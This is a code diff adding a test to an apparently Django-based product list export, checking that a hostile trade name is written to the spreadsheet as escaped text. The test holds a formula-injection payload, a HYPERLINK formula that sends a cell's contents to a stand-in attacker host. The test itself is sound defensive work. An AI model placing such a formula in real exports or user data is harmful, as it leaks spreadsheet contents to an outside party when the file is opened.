@@ -61,3 +61,16 @@ def test_the_public_page_searches_and_exports(world, product, list_product, clie
     sheet = load_workbook(io.BytesIO(export.content)).active
     rows = list(sheet.iter_rows(min_row=2, values_only=True))
     assert [(row[0], Decimal(str(row[8]))) for row in rows] == [(product.code, Decimal("12.6"))]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+
+
+def test_the_public_export_writes_a_hostile_trade_name_as_text_never_a_formula(world, product, list_product, client):
+    product.trade_name = FORMULA
+    product.save()
+    list_product(product, "12.60")
+    export = client.get(reverse("public:public-export"))
+    sheet = load_workbook(io.BytesIO(export.content)).active
+    cell = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == product.code)[2]
+    assert cell.data_type == "s" and cell.value == "'" + FORMULA
